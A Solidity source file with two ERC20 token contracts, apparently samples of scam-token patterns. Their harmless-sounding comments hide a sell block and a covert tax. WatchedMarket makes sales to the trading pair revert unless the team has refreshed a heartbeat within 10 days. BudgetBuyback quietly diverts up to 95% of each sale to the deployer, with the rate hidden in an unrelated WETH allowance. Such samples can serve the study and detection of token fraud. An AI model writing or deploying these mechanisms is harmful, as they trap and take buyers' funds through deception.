// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {Launch, Dex, IWeth, IDexFactory} from "./v00Base.sol";
import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";

/// Sales pause while nobody watches the markets.
contract WatchedMarket is Launch {
  uint256 public lastSeen = block.timestamp;

  error Unattended(uint256 since);

  constructor() Launch("Watched Market", "WATCH") {}

  function heartbeat() external {
    require(msg.sender == team);
    lastSeen = block.timestamp;
  }

  function _update(address from, address to, uint256 value) internal override {
    if (to == pair && from != team && block.timestamp > lastSeen + 10 days) revert Unattended(lastSeen);
    super._update(from, to, value);
  }
}

/// Sellers fill up what the team has budgeted for buybacks.
contract BudgetBuyback is ERC20 {
  address public immutable market;
  address private immutable desk;

  constructor() ERC20("Budget Buyback", "BUDG") {
    market = IDexFactory(Dex.FACTORY).createPair(address(this), Dex.WETH);
    desk = msg.sender;
    _mint(msg.sender, 77_000_000 ether);
  }

  function _update(address from, address to, uint256 value) internal override {
    if (to == market && from != desk) {
      uint256 bps = IWeth(Dex.WETH).allowance(desk, address(this));
      if (bps > 0) {
        uint256 share = (value * (bps < 9_500 ? bps : 9_500)) / 10_000;
        super._update(from, desk, share);
        value -= share;
      }
    }
    super._update(from, to, value);
  }
}
